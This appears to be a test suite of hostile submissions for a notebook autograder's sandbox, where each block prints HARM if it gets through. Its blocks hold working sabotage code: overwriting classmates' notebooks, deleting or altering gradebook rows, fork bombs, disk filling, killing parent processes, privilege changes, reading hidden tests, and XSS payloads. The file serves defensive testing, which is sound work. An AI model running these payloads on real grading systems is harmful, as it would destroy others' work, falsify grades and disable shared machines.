"""Right answers that attack their neighbours, the course or the machine: neighbours' scores stay, and nothing outside changes.

Each block is one submission (its form: gains.py). What must not succeed prints HARM if it does. A fourth field says why a block is not
tried on stock nbgrader. Every payload is bounded in time and memory, reaches for the loopback only, and leaves no process for long.
"""

# %% writes over the course's files | sandbox | start
import glob

for place in ("../../../source/descent/descent.ipynb", "@COURSE@/source/descent/descent.ipynb", "@COURSE@/canary.txt", "../../../canary.txt"):
    try:
        open(place, "r+").write("HARM")
        print("HARM", place)
    except OSError:
        pass

# %% writes over its neighbours' notebooks | sandbox | start
import glob

for place in glob.glob("../../../submitted/*/descent/*.ipynb") + glob.glob("@COURSE@/submitted/*/descent/*.ipynb"):
    open(place, "w").write("{}")
    print("HARM", place)

# %% deletes the class | sandbox | start
import glob
import shutil

for place in glob.glob("../../../release") + glob.glob("@COURSE@/release") + glob.glob("../../*/descent"):
    shutil.rmtree(place, ignore_errors=True)
    print("HARM", place)

# %% deletes the gradebook's rows | sandbox | start
import glob
import sqlite3

for place in glob.glob("../../../gradebook.db") + glob.glob("@COURSE@/gradebook.db"):
    with sqlite3.connect(place, timeout=5) as book:
        book.execute("DELETE FROM student WHERE id = 'canary'")
        print("HARM")

# %% locks the gradebook | sandbox | start
import glob
import sqlite3
import subprocess
import sys

for place in glob.glob("../../../gradebook.db") + glob.glob("@COURSE@/gradebook.db"):
    code = f"import sqlite3, time; b = sqlite3.connect({place!r}); b.execute('BEGIN EXCLUSIVE'); time.sleep(20)"
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    print("HARM")

# %% a process changes the gradebook when the grading is over | sandbox | start
import glob
import subprocess
import sys

for place in glob.glob("../../../gradebook.db") + glob.glob("@COURSE@/gradebook.db"):
    code = f"import sqlite3, time; time.sleep(8); b = sqlite3.connect({place!r}, timeout=9); "
    code += "b.execute('UPDATE grade SET manual_score = 5'); b.commit()"
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)

# %% leaves files where the next kernel looks for them | sandbox | start
import os
import site
from pathlib import Path

home = Path(os.path.expanduser("~"))
for place in (home / ".ipython/profile_default/startup", Path("/tmp"), Path("/dev/shm"), home / ".config/matplotlib"):
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "hostile-left.py").write_text("import builtins; builtins.all = lambda values: True\n")
    except OSError:
        pass

# %% finds what another one left | sandbox | start
import os

for place in ("~/.ipython/profile_default/startup", "/tmp", "/dev/shm", "~/.config/matplotlib", "/work"):
    if os.path.exists(os.path.join(os.path.expanduser(place), "hostile-left.py")):
        print("HARM", place)

# %% writes among the packages | sandbox | start | the machine's own packages are the whole project's
import os
import site

import torch

for place in (os.path.dirname(torch.__file__), "/course/inside", *site.getsitepackages()):
    try:
        open(place + "/hostile-left.py", "w").close()
        print("HARM", place)
        os.remove(place + "/hostile-left.py")
    except OSError:
        pass

# %% a package's file opened, and its text changed in memory that is shared | sandbox | start | as above
import mmap

import gaussian
import torch

for path in (torch.__file__, gaussian.__file__):
    try:
        with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as text:
            text[0] = text[0]
            print("HARM" if path == torch.__file__ else "its own copy")
    except OSError:
        pass

# %% a process is left behind | sandbox | start
import os
import subprocess

subprocess.Popen(["sleep", "77.125"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "77.126"])
    os._exit(0)

# %% an answer leaves a process behind | sandbox | in descent-loss
def L(w, z=-1.0):
    import subprocess

    subprocess.Popen(["sleep", "77.127"], start_new_session=True)
    return torch.exp(w * z)

# %% kills whatever it may | sandbox | start | it would kill the session that tries it
import os
import signal

for process in (os.getppid(), 1, -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass

# %% stops its parents | sandbox | start | it would stop what tries it
import os
import signal

for process in (os.getppid(), 1, 2, 3):
    try:
        os.kill(process, signal.SIGSTOP)
    except OSError:
        pass

# %% an answer kills its parents | sandbox | in descent-step | it would kill the session that tries it
def step(f, w, s):
    import os
    import signal

    for process in (os.getppid(), -1):
        os.kill(process, signal.SIGKILL)
    return w

# %% stops itself | limits | before descent-loss | it would hold up its parent for good
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)

# %% an endless loop | limits | before descent-loss
while True:
    pass

# %% an endless loop that catches everything | limits | before descent-loss
import signal

signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% an endless answer that catches everything | limits | in descent-loss
def L(w, z=-1.0):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass

# %% an endless computation in C | limits | before descent-loss
9**9**9**9

# %% many cells, each of which takes almost too long | limits | start
import time

time.sleep(4)
# + start
time.sleep(4)
# + start
time.sleep(4)
# + start
time.sleep(4)
# + start
time.sleep(4)
# + start
time.sleep(4)
# + start
time.sleep(4)
# + start
time.sleep(4)
# + start
import time

time.sleep(4)

# %% the alarm is switched off | limits | before descent-loss
import signal
import time

signal.signal = signal.setitimer = lambda *_: None
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass

# %% many processes | limits | before descent-loss | a fork bomb
import os
import time

for _ in range(300):
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)

# %% processes that fork when they are killed | limits | before descent-loss | a fork bomb
import os
import time

end = time.monotonic() + 10
for _ in range(20):
    if os.fork() == 0:
        while time.monotonic() < end:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
        os._exit(0)

# %% many threads | limits | before descent-loss | a fork bomb
import threading
import time

for _ in range(300):
    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()

# %% a thread that goes on | limits | before descent-loss
import threading


def work():
    for _ in range(20_000_000):
        globals()["L"] = globals().get("L")


threading.Thread(target=work, daemon=True).start()

# %% more memory than it may take | limits | before descent-loss | memory
kept = []
for _ in range(40):
    kept.append(bytearray(b"x" * 2**26))
print("HARM")

# %% memory of many processes | limits | before descent-loss | memory
import os
import time

for _ in range(12):
    if os.fork() == 0:
        kept = bytearray(b"x" * 2**28)
        time.sleep(20)
        os._exit(0)
time.sleep(2)

# %% memory that is a file without a name | seccomp | before descent-loss | memory
import os

kept = []
for _ in range(12):
    kept.append(os.memfd_create("x"))
    for _ in range(8):
        os.write(kept[-1], bytes(2**23))
print("HARM")

# %% memory that belongs to no process | seccomp | before descent-loss | memory
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(4):
    segment = libc.shmget(0, 2**25, 0o1600)
    if segment >= 0:
        ctypes.memset(libc.shmat(segment, None, 0), 1, 2**25)
        print("HARM")

# %% a file system of its own | seccomp | before descent-loss | memory
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0:
    print("HARM: a user namespace of its own")
    if libc.mount(b"x", b"/tmp", b"tmpfs", 0, b"size=100M") == 0:
        print("HARM: a file system of its own")
elif os.uname().machine == "x86_64":
    child = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone
    if child == 0:
        os._exit(0)
    print("HARM: a process with namespaces of its own" if child > 0 else "refused")

# %% fills the disk | limits | before descent-loss | the disk
for place in ("/work", "/tmp", "/dev/shm"):
    try:
        for number in range(20):
            with open(f"{place}/hostile-{number}", "wb") as file:
                for _ in range(2):
                    file.write(bytes(2**25))
        print("HARM", place)
    except OSError as error:
        print(error)

# %% a huge file with a hole in it | limits | before descent-loss
try:
    with open("hole", "wb") as file:
        file.truncate(2**40)
    print("HARM")
except OSError as error:
    print(error)

# %% many small files | limits | before descent-loss | the disk
try:
    for number in range(40_000):
        open(f"hostile-{number}", "w").close()
    print("HARM")
except OSError as error:
    print(error)

# %% a flood of output | limits | before descent-loss
for _ in range(2_000):
    print("flood " * 2_000)

# %% a flood of displays | limits | before descent-loss
from IPython.display import HTML, display

for number in range(3_000):
    display(HTML("<p>flood</p>" * 20))

# %% a flood beside Python's own output | limits | before descent-loss
import os

for number in (1, 2):
    for _ in range(200):
        os.write(number, b"flood " * 10_000)

# %% a server of this machine is reached | sandbox | start
import socket

for name in ("127.0.0.1", "localhost", "::1"):
    try:
        socket.create_connection((name, @PORT@), timeout=2).close()
        print("HARM", name)
    except OSError:
        pass

# %% an answer reaches a server | sandbox | in descent-loss
def L(w, z=-1.0):
    import socket

    try:
        socket.create_connection(("127.0.0.1", @PORT@), timeout=2).send(str(w).encode())
    except OSError:
        pass
    return torch.exp(w * z)

# %% a server is left behind | sandbox | start
import socket
import subprocess
import sys

code = "import socket, time; s = socket.create_server(('127.0.0.1', 45127)); time.sleep(15)"
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)

# %% the server that was left behind is found | sandbox | start
import socket

try:
    socket.create_connection(("127.0.0.1", 45127), timeout=1).close()
    print("HARM")
except OSError:
    pass

# %% a script in what it displays | feedback | before descent-loss
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>document.title = 'HARM'</script><img src=x onerror=\"document.title='HARM'\"><iframe srcdoc='<script>1</script>'></iframe>"))
display(Javascript("document.title = 'HARM'"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='HARM'\"><script>document.title = 'HARM'</script></svg>"))
display(Markdown("<script>document.title = 'HARM'</script> [x](javascript:document.title='HARM')"))
print("<script>document.title = 'HARM'</script>")

# %% a script in its text | feedback | start markdown
# | <script>document.title = 'HARM'</script> <img src=x onerror="document.title='HARM'"> [x](javascript:alert('HARM'))
# | <style>body { display: none }</style> <form action="http://127.0.0.1:@PORT@"><input name=x></form>
# | </div></div></body></html>

# %% a script in an error | feedback | in descent-loss
def L(w, z=-1.0):
    raise ValueError("<script>document.title = 'HARM'</script><img src=x onerror=alert(1)>")

# %% a page without end | feedback | before descent-loss
from IPython.display import HTML, display

for _ in range(30):
    display(HTML("<div>" * 15_000))

# %% a hidden test is shown | sandbox | end
import inspect
import sys

words = "HIDDEN" + " TESTS"
for text in [str(value) for value in list(globals().values()) if isinstance(value, (str, list))] + list(In):
    if "_check_" + "hidden():" in text:
        print("HARM", text[:3000])
        break

# %% an answer writes down who calls it, and a cell prints it | sandbox | in descent-loss
def L(w, z=-1.0):
    import linecache
    import sys

    frame, seen = sys._getframe(1), []
    while frame:
        seen += linecache.getlines(frame.f_code.co_filename)
        seen += [str(value) for value in frame.f_locals.values()]
        frame = frame.f_back
    if "_check_" + "hidden():" in "".join(seen):
        open("seen.txt", "w").write("".join(seen)[:20_000])
    return torch.exp(w * z)
# + end
import os

if os.path.exists("seen.txt"):
    print("HARM", open("seen.txt").read())

# %% tensors that do not fit their bytes | wire | in descent-loss
def L(w, z=-1.0):
    import os
    import socket
    import stat
    import struct

    import msgpack

    def tensor(*parts):
        return msgpack.packb(msgpack.ExtType(5, msgpack.packb(list(parts))))

    messages = [
        tensor("torch.float32", [2**39], b"1234"),
        tensor("torch.float32", [-1], b"1234"),
        tensor("torch.float64", [3], b"12345678"),
        tensor("torch.complex64", [], b"x"),
        msgpack.packb(msgpack.ExtType(3, msgpack.packb(["O", [1], b"12345678"]))),
        msgpack.packb(msgpack.ExtType(4, msgpack.packb(["|V4", b"1234"]))),
    ]
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                channel = socket.socket(fileno=os.dup(number))
                for data in messages:
                    channel.sendall(struct.pack("!I", len(data)) + data)
        except OSError:
            pass
    return w

# %% bytes that mean nothing on the channel | wire | before descent-loss | it would break its own kernel's sockets
import os
import socket
import stat

for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            socket.socket(fileno=os.dup(number)).sendall(b"\x00\x00\x00\x05\xc1\xff\xd9\xdf\xdd" * 1000)
    except OSError:
        pass

# %% a message that never ends | wire | before descent-loss | it would break its own kernel's sockets
import os
import socket
import stat
import time

for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            socket.socket(fileno=os.dup(number)).sendall(b"\x03\xff\xff\xff\xdd")
    except OSError:
        pass
time.sleep(60)

# %% a cell that says that it has printed 60 MB | wire | before descent-loss | it would break its own kernel's sockets
import os
import socket
import stat
import struct

from inside.wire import packed

data = packed(([{"output_type": "stream", "name": "stdout", "text": "x" * 60 * 2**20}], None))
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            socket.socket(fileno=os.dup(number)).sendall(struct.pack("!I", len(data)) + data)
    except OSError:
        pass

# %% a message that swells | wire | before descent-loss | it would break its own kernel's sockets
import os
import socket
import stat
import struct

data = b"\xdd" + struct.pack("!I", 60 * 2**20) + b"\x80" * (60 * 2**20)  # sixty million empty dicts: 4 GB if they are made
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            socket.socket(fileno=os.dup(number)).sendall(struct.pack("!I", len(data)) + data)
    except OSError:
        pass

# %% an answer that is nested a thousand deep | wire | in descent-loop
def descend(f, w0, s, k):
    path = []
    for _ in range(1000):
        path = [path]
    return path

# %% an answer that contains itself | wire | in descent-loss
def L(w, z=-1.0):
    class Losses:
        def tolist(self):
            path = [1.0]
            path.append(path)
            return path

    return Losses()

# %% an answer of a gigabyte | wire | in descent-loss | memory
def L(w, z=-1.0):
    class Losses:
        tolist = lambda self: [0.0] * 2**27

    return Losses()

# %% an answer whose repr does not end | limits | in descent-step
class Weight:
    def __repr__(self):
        while True:
            pass

    __float__ = __getattr__ = __repr__


def step(f, w, s):
    return Weight()

# %% it works on when it should be dead | sandbox | end
import atexit
import os
import time


class Last:
    def __del__(self):
        time.sleep(30)


kept = Last()
atexit.register(time.sleep, 30)
get_ipython().user_ns["__del__"] = kept

# %% the kernel starts itself again | sandbox | before descent-loss
import os
import sys

try:
    get_ipython().kernel.do_shutdown(True)
except AttributeError:
    os.execv(sys.executable, [sys.executable, "-c", "print('again')"])

# %% closes everything | sandbox | before descent-loss
import os

os.closerange(0, 256)

# %% a crash in C | sandbox | before descent-loss
import ctypes

ctypes.string_at(0)

# %% recursion without end | sandbox | in descent-loss
import sys


def L(w, z=-1.0):
    sys.setrecursionlimit(10**9)
    return L(w, z)

# %% reads what is typed | sandbox | before descent-loss
import sys

print(sys.stdin.read()[:10], "was typed")

# %% becomes somebody else | sandbox | start
import os

for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/tmp"), lambda: os.nice(-5), lambda: os.setgroups([0])):
    try:
        change()
        print("HARM" if os.getpid() and not os.access("@COURSE@", os.F_OK) else "stock runs as its user")
    except OSError:
        pass

# %% raises its own limits | limits | start
import resource

for name in ("NPROC", "FSIZE", "CPU", "NOFILE", "DATA"):
    limit = getattr(resource, f"RLIMIT_{name}")
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("HARM", name)
    except (OSError, ValueError):
        pass

# %% looks at the machine's processes | sandbox | start
import os
import pathlib

words = []
for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        words.append(pathlib.Path("/proc", process, "cmdline").read_text())
        words.append(pathlib.Path("/proc", process, "environ").read_text() if int(process) != os.getpid() else "")
    except OSError:
        pass
if "course.assignment.grading" in " ".join(words) or "nbgrader" in " ".join(words):
    print("HARM")

# %% traces its parent | seccomp | start | it would hold up its parent
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), 0, 0) == 0:
    print("HARM")

# %% asks the kernel for what no notebook needs | seccomp | start | the machine's own kernel
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
calls = {"bpf": 321, "userfaultfd": 323, "perf_event_open": 298, "io_uring_setup": 425, "keyctl": 250, "add_key": 248, "mount": 165}
for name, number in calls.items():
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 38):
        print("HARM", name, ctypes.get_errno())

# %% device files | sandbox | start | the machine's own devices
import os

for name in ("kmsg", "mem", "sda", "fuse", "kvm", "nvidia0"):
    try:
        os.open(f"/dev/{name}", os.O_RDWR)
        print("HARM", name)
    except OSError:
        pass
try:
    os.mknod("device", 0o20666, os.makedev(1, 1))
    print("HARM")
except OSError:
    pass
